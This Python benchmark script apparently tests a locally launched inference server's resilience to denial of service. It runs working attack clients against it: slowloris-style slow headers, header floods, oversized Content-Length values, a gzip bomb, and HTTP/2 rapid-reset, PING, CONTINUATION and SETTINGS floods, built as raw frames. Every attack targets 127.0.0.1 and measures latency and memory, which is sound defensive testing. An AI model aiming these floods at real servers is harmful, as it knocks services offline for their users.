"""Clients that try to exhaust a server: ``python -m benchmarks.hostile_clients [NAME …]``.

Each attack runs against its own server, which a probe asks for an inference again and again. Printed are the
slowest answer to the probe, the resident set before, at the peak and after, and the outcome of the connections.
"""

from __future__ import annotations

import argparse
import asyncio
import gzip
import json
import resource
import struct
import tempfile
import time
from collections import Counter
from collections.abc import Awaitable, Callable
from pathlib import Path

import psutil

from benchmarks.servers import ROOT, ports_and_process

_INFER = b'{"inputs":[{"name":"INPUT0","datatype":"FP32","shape":[1,2],"data":[1,2]}]}'
_PATH = "/v2/models/identity_fp32/infer"
_HEAD = f"POST {_PATH} HTTP/1.1\r\nHost: localhost\r\n".encode()
_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(3) + b"\x04\x00" + bytes(4)
#: ``:method: POST``, ``:scheme: http``, ``:path: /``, from HPACK's static table.
_BLOCK = b"\x83\x86\x84"


_PING = b"\x00\x00\x08\x06\x00\x00\x00\x00\x00"


class Target:
    """A running server.

    Attributes
    ----------
    http, grpc : int
        Ports.
    outcomes : Counter
        What happened to the connections of the attack.
    """

    def __init__(self, http: int, grpc: int, process: psutil.Process) -> None:
        self.http, self.grpc = http, grpc
        self.outcomes: Counter[str] = Counter()
        self.resident = [process.memory_info().rss >> 20]
        self.slowest = 0.0
        self._process = process

    def limit_descriptors(self, more: int) -> None:
        """Let the server open only so many more files and connections."""
        _, hard = self._process.rlimit(psutil.RLIMIT_NOFILE)
        self._process.rlimit(psutil.RLIMIT_NOFILE, (self._process.num_fds() + more, hard))

    async def send(self, port: int, *parts: bytes, pause: float = 0.0) -> None:
        """Open a connection, send parts, and wait for its end; the outcome is the first line, or how it ended."""
        reader, writer = await asyncio.open_connection("127.0.0.1", port)
        answer = asyncio.create_task(reader.read())
        try:
            for part in parts:
                writer.write(part)
                await writer.drain()
                await asyncio.sleep(pause)
                if answer.done():
                    break
            async with asyncio.timeout(150):
                received = await answer
        except (ConnectionError, OSError, TimeoutError) as error:
            self.outcomes[type(error).__name__] += 1
            await asyncio.gather(answer, return_exceptions=True)  # it ends with the same error
            return
        writer.close()
        self.outcomes[_summary(received)] += 1

    async def probe(self) -> None:
        """Ask for an inference, again and again."""
        request = _HEAD + b"Content-Length: %d\r\n\r\n%s" % (len(_INFER), _INFER)
        reader, writer = await asyncio.open_connection("127.0.0.1", self.http)
        while True:
            begin = time.perf_counter()
            writer.write(request)
            head = await reader.readuntil(b"\r\n\r\n")
            await reader.readexactly(int(head.lower().partition(b"content-length: ")[2].split()[0]))
            self.slowest = max(self.slowest, time.perf_counter() - begin)
            self.resident.append(self._process.memory_info().rss >> 20)
            await asyncio.sleep(0.02)


def _summary(received: bytes) -> str:
    if not received:
        return "closed without a response"
    if received.startswith(b"HTTP/"):
        return received.partition(b"\r\n")[0].decode()
    at = received.find(b"\x08\x07\x00\x00\x00\x00\x00")
    return f"GOAWAY, error {received[at + 14]}" if at >= 0 and len(received) > at + 14 else "HTTP/2 frames"


async def idle(target: Target) -> None:
    """10,000 connections that send nothing, for 20 s."""
    writers = [(await asyncio.open_connection("127.0.0.1", target.http))[1] for _ in range(10_000)]
    await asyncio.sleep(20)
    target.outcomes["open"] = sum(not writer.is_closing() for writer in writers)
    for writer in writers:
        writer.close()


async def slow_heads(target: Target) -> None:
    """1,000 connections that send a byte of a head every 5 s."""
    parts = [_HEAD, *[b"X"] * 30]
    await asyncio.gather(*(target.send(target.http, *parts, pause=5) for _ in range(1000)))


async def slow_prefaces(target: Target) -> None:
    """1,000 gRPC connections that do not finish the preface."""
    await asyncio.gather(*(target.send(target.grpc, _PREFACE[:5]) for _ in range(1000)))


async def head_floods(target: Target) -> None:
    """Heads without an end: of one long header, of many headers, and of one name."""
    headers = (
        b"X: " + b"a" * 2**20,
        b"".join(b"X%d: a\r\n" % number for number in range(100_000)),
        b"X: a\r\n" * 100_000,
    )
    await asyncio.gather(*(target.send(target.http, _HEAD + flood) for flood in headers * 20))


async def huge_lengths(target: Target) -> None:
    """Bodies of up to 2^64 bytes, announced and not sent."""
    lengths = (2**31, 2**40, 2**63, 2**64, 10**40)
    await asyncio.gather(*(target.send(target.http, _HEAD + b"Content-Length: %d\r\n\r\n" % size) for size in lengths))


async def announced(target: Target) -> None:
    """1,000 bodies of 2 GiB less one byte: announced, begun, and given up after 5 s."""
    head = _HEAD + b"Content-Length: %d\r\n\r\n" % (2**31 - 1)
    writers = []
    for _ in range(1000):
        writer = (await asyncio.open_connection("127.0.0.1", target.http))[1]
        writer.write(head + bytes(1000))
        writers.append(writer)
    await asyncio.sleep(5)
    target.outcomes["given up"] = len(writers)
    for writer in writers:
        writer.close()


async def bombs(target: Target) -> None:
    """20 bodies that decompress to 1 GiB, over HTTP."""
    bomb = await asyncio.to_thread(gzip.compress, bytes(2**30), 9)
    request = _HEAD + b"Content-Encoding: gzip\r\nConnection: close\r\nContent-Length: %d\r\n\r\n%s" % (len(bomb), bomb)
    for _ in range(20):
        await target.send(target.http, request)


async def resets(target: Target) -> None:
    """HTTP/2 rapid reset: 500,000 calls that are begun and reset, on one connection."""
    frames = bytearray()
    for number in range(500_000):
        stream = struct.pack(">I", 2 * number + 1)
        frames += b"\x00\x00\x03\x01\x04" + stream + _BLOCK + b"\x00\x00\x04\x03\x00" + stream + b"\x00\x00\x00\x08"
        if number % 10_000 == 0:
            await asyncio.sleep(0)  # so that the probe goes on
    await target.send(target.grpc, _PREFACE, bytes(frames))


async def pings(target: Target) -> None:
    """500,000 PING frames of a client that does not read, for 10 s."""
    _, writer = await asyncio.open_connection("127.0.0.1", target.grpc)
    writer.transport.pause_reading()  # type: ignore[attr-defined]
    writer.write(_PREFACE + (_PING + bytes(8)) * 500_000)
    await asyncio.sleep(10)
    target.outcomes["open"] += 1
    writer.transport.abort()


async def continuations(target: Target) -> None:
    """HTTP/2 CONTINUATION floods: header blocks without an end."""
    flood = _PREFACE + b"\x00\x00\x00\x01\x00\x00\x00\x00\x01" + b"\x00\x00\x00\x09\x00\x00\x00\x00\x01" * 1000
    await asyncio.gather(*(target.send(target.grpc, flood) for _ in range(50)))


async def settings(target: Target) -> None:
    """Floods of SETTINGS frames."""
    flood = _PREFACE + (b"\x00\x00\x06\x04\x00\x00\x00\x00\x00" + struct.pack(">HI", 4, 5)) * 10_000
    await asyncio.gather(*(target.send(target.grpc, flood) for _ in range(50)))


async def descriptors(target: Target) -> None:
    """200 connections to a server with 50 file descriptors left, for 5 s; then a new client asks for an inference."""
    target.limit_descriptors(50)
    writers = [(await asyncio.open_connection("127.0.0.1", target.http))[1] for _ in range(200)]
    await asyncio.sleep(5)
    for writer in writers:
        writer.close()
    await asyncio.sleep(1)
    request = b"Connection: close\r\nContent-Length: %d\r\n\r\n%s" % (len(_INFER), _INFER)
    await target.send(target.http, _HEAD + request)


Attack = Callable[[Target], Awaitable[None]]
ATTACKS: dict[str, Attack] = {
    attack.__name__: attack
    for attack in (
        *(idle, slow_heads, slow_prefaces, head_floods, huge_lengths, announced, bombs, resets, pings),
        *(continuations, settings, descriptors),
    )
}


async def _attack(target: Target, attack: Attack) -> None:
    probing = asyncio.create_task(target.probe())
    await asyncio.sleep(1)
    await attack(target)
    await asyncio.sleep(1)
    if probing.done():
        await probing  # it failed
    probing.cancel()


def _run(attack: Attack, repository: str) -> None:
    with ports_and_process(repository) as (http, grpc, process):
        target = Target(http, grpc, process)
        begin = time.monotonic()
        asyncio.run(_attack(target, attack))
        seconds = time.monotonic() - begin
    memory = f"{target.resident[0]} MB before, {max(target.resident)} MB at the peak, {target.resident[-1]} MB after"
    outcomes = json.dumps(dict(target.outcomes))
    print(
        f"{attack.__name__} ({seconds:.0f} s): slowest answer {target.slowest * 1e3:.0f} ms; {memory}; {outcomes}",
        flush=True,
    )


def main() -> None:
    """Run the attacks that are named, or all of them."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("names", nargs="*", metavar="NAME", help="all if omitted")
    options = parser.parse_args()
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))  # the server inherits it
    with tempfile.TemporaryDirectory() as scratch:
        (Path(scratch) / "identity_fp32").symlink_to(ROOT / "model_repository" / "identity_fp32")
        for name in options.names or ATTACKS:
            _run(ATTACKS[name], scratch)


if __name__ == "__main__":
    main()
